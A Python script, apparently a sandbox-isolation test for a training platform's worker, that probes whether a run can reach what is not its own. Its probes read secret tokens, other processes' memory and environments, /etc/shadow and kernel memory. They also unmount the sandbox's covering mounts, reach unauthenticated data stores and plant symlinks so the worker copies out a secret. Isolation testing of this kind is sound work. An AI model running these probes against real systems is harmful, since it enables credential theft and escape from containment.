"""A script that tries to reach what is not its own. Run as: hostile.py TARGETS.json

Prints a line per probe: `OPEN name: what it got`, or `closed name: why`.
"""

import ctypes
import glob
import json
import os
import signal
import socket
import subprocess
import sys

TARGETS = json.load(open(sys.argv[1]))
CANARY = TARGETS["canary"].encode()
PROBES = {}
libc = ctypes.CDLL(None, use_errno=True)


class Closed(Exception):
    pass


def probe(name):
    def add(function):
        PROBES[name] = function
        return function

    return add


def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def has_canary(data):
    if CANARY not in data:
        raise Closed("nothing of worth in it")
    return "a secret of the platform"


def system(result, what=""):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return what or "it worked"


def answers(family, address, question, wanted):
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)
        client.sendall(question)
        answer = client.recv(200)
    if not answer.startswith(wanted):
        raise Closed("it answers %r" % answer[:30])
    return repr(answer[:40])


# --- the platform's files


for what, place in TARGETS["files"].items():
    probe("read " + what)(lambda place=place: has_canary(read(place)))


@probe("list the runs of this worker")
def list_runs():
    names = os.listdir(TARGETS["work_dir"])
    if not any("victim" in name for name in names):
        raise Closed("it sees %d names, none of another run" % len(names))
    return names


@probe("write into another run's folder")
def write_other_run():
    open(TARGETS["files"]["another run's outputs"] + ".new", "w").close()


@probe("reach the platform's folder by way of another process")
def by_root_link():
    return has_canary(
        read("/proc/%d/root%s" % (TARGETS["victim"], TARGETS["files"]["the token (config.json)"]))
    )


@probe("take the covers off in a namespace of its own")
def uncover():
    code = (
        "import ctypes, os, sys; l = ctypes.CDLL(None); l.unshare(0x10020000) and sys.exit('not alone');"
        "[l.umount2(p.split()[1].encode(), 2) for p in reversed(list(open('/proc/mounts')))];"
        "sys.stdout.buffer.write(open(sys.argv[1], 'rb').read())"
    )
    place = TARGETS["files"]["the token (config.json)"]
    return has_canary(subprocess.run([sys.executable, "-c", code, place], capture_output=True).stdout)


# --- other processes


@probe("read its keeper's environment")
def keeper_environment():
    return len(read("/proc/%d/environ" % os.getppid()))


@probe("read its keeper's memory")
def keeper_memory():
    return open("/proc/%d/mem" % os.getppid(), "rb") and "it opens"


@probe("list its keeper's descriptors")
def keeper_descriptors():
    return os.listdir("/proc/%d/fd" % os.getppid())


@probe("read the worker's environment")
def worker_environment():
    return len(read("/proc/%d/environ" % TARGETS["worker"]))


@probe("read the worker's memory")
def worker_memory():
    return open("/proc/%d/mem" % TARGETS["worker"], "rb") and "it opens"


@probe("read a secret in any process's environment")
def environments():
    found, seen = b"", 0
    for place in glob.glob("/proc/[0-9]*/environ"):
        try:
            found += read(place)
            seen += 1
        except OSError:
            pass
    return has_canary(found)


@probe("find a secret in any process's arguments")
def arguments():
    found = b"".join(read(p) for p in glob.glob("/proc/[0-9]*/cmdline") if os.path.exists(p))
    for secret in TARGETS["passwords"]:
        if secret.encode() in found.replace(sys.argv[1].encode(), b""):
            return "a password"
    return has_canary(found)


@probe("signal a process of the worker's user")
def signal_victim():
    os.kill(TARGETS["victim"], signal.SIGCONT)


@probe("stop its keeper")
def signal_keeper():
    os.kill(os.getppid(), signal.SIGCONT)


@probe("trace a process")
def trace():
    return system(libc.ptrace(16, TARGETS["victim"], None, None))


@probe("read a process's memory by a system call")
def vm_read():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(8)
    mine = Vector(ctypes.cast(buffer, ctypes.c_void_p), 8)
    theirs = Vector(TARGETS["address"], 8)
    call = libc.process_vm_readv
    return system(call(TARGETS["victim"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0))


# --- the stores


@probe("use Redis without its password")
def redis():
    return answers(socket.AF_INET, ("127.0.0.1", TARGETS["redis"]), b"PING\r\n", b"+PONG")


@probe("read the bucket without a key")
def s3():
    question = b"GET /%s HTTP/1.0\r\n\r\n" % TARGETS["bucket"].encode()
    return answers(socket.AF_INET, ("127.0.0.1", TARGETS["ports"]["s3"]), question, b"HTTP/1.0 200")


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])


def add_inner_server(name, port):
    ways = {"filer": b"/buckets/", "master": b"/dir/assign", "volume": b"/1,01637037d6", "admin": b"/"}
    if name in ways:
        question = b"GET " + ways[name] + b" HTTP/1.0\r\n\r\n"
        probe("use the store's %s over HTTP" % name)(
            lambda: answers(socket.AF_INET, ("127.0.0.1", port), question, b"HTTP/1.0 200")
        )
    grpc = port + TARGETS["grpc_offset"]
    probe("use the store's %s over gRPC" % name)(
        lambda: answers(socket.AF_INET, ("127.0.0.1", grpc), HELLO, b"\0\0")
    )
    place = "/tmp/seaweedfs-%s-grpc-%d.sock" % (name, grpc)
    probe("use the store's %s by its socket in /tmp" % name)(
        lambda: answers(socket.AF_UNIX, place, HELLO, b"\0\0")
    )


for name, port in TARGETS["ports"].items():
    add_inner_server(name, port)


@probe("use the filer by its socket in the store's folder")
def filer_socket():
    return answers(
        socket.AF_UNIX, TARGETS["filer_socket"], b"GET /buckets/ HTTP/1.0\r\n\r\n", b"HTTP/1.0 200"
    )


@probe("talk to an abstract socket of another program")
def abstract():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + TARGETS["abstract"])
    return "it connects"


# --- the machine


@probe("write into the worker's packages")
def packages():
    open(os.path.join(os.path.dirname(json.__file__), "fitq_probe.py"), "w").close()


@probe("write into the platform's code")
def code():
    open(os.path.join(TARGETS["source"], "fitq_probe.py"), "w").close()


@probe("write into the folder of training functions")
def functions():
    if "functions" not in TARGETS:
        raise Closed("there is none")
    open(os.path.join(TARGETS["functions"], "left.py"), "w").close()


@probe("write into /etc")
def etc():
    open("/etc/fitq-probe", "w").close()


@probe("read the machine's password hashes")
def shadow():
    if not read("/etc/shadow"):
        raise Closed("it is empty")


@probe("read a disk past its file system")
def disk():
    found = [
        d
        for d in glob.glob("/dev/[svx]d?") + glob.glob("/dev/[svx]d") + glob.glob("/dev/nvme*")
        if os.path.exists(d)
    ]
    for place in found:
        os.close(os.open(place, os.O_RDONLY))
        return place
    raise Closed("there is none")


@probe("read the kernel's memory")
def kernel():
    return len(read("/proc/kcore")) and "it opens"


@probe("make a device")
def device():
    os.mknod("disk", 0o600 | 0o060000, os.makedev(254, 0))


@probe("mount")
def mount():
    return system(libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))


@probe("become root")
def root():
    os.setresuid(0, 0, 0)
    if "CapEff:\t0000000000000000" in open("/proc/self/status").read():
        raise Closed("without any privilege")


@probe("gain privileges by a program that gives them")
def new_privileges():
    if "NoNewPrivs:\t1" in open("/proc/self/status").read():
        raise Closed("no_new_privs")


@probe("change the mode of a file that is not its own")
def change_mode():
    os.chmod(TARGETS["readable"], 0o666)


@probe("change a setting of the kernel")
def sysctl():
    with open("/proc/sys/kernel/core_pattern", "r+") as file:
        file.write(file.read())


@probe("leave its control group")
def groups():
    for place in glob.glob("/sys/fs/cgroup/*/cgroup.procs") + ["/sys/fs/cgroup/cgroup.procs"]:
        if os.path.exists(place):
            os.close(os.open(place, os.O_WRONLY))
            return place
    raise Closed("there is none")


@probe("see what another program left in /tmp")
def tmp():
    return has_canary(read(TARGETS["in_tmp"]))


@probe("see what another program left in /dev/shm")
def shm():
    return has_canary(read(TARGETS["in_shm"]))


# --- by way of what the worker reads for it


@probe("put another file in the place of its log")
def replace_log():
    log = os.path.join(os.environ["FITQ_RUN_FOLDER"], "..", "std_log.txt")
    os.unlink(log)


def lead_the_worker_astray():
    """Not a probe by itself: whether it worked is seen in what was kept."""
    secret = TARGETS["files"]["the token (config.json)"]
    folder = os.environ["FITQ_RUN_FOLDER"]
    for name in ("metrics.jsonl", "properties.jsonl"):
        os.symlink(secret, os.path.join(folder, name))
    os.makedirs("logs")
    os.symlink(os.path.dirname(secret), "logs/by-link")
    os.symlink(secret, "outputs/by-link.json")


def status(name):
    return next(line.split()[1:] for line in open("/proc/self/status") if line.startswith(name))


print("user", *os.getresuid(), "capabilities", *status("CapEff:"), flush=True)
for name, function in PROBES.items():
    if not name.startswith(tuple(TARGETS["only"])):
        continue
    try:
        print("OPEN %s: %s" % (name, function()), flush=True)
    except Closed as reason:
        print("closed %s: %s" % (name, reason), flush=True)
    except OSError as error:
        print("closed %s: %s" % (name, error.strerror or error), flush=True)
    except Exception as error:
        print("closed %s: %s" % (name, error), flush=True)
lead_the_worker_astray()
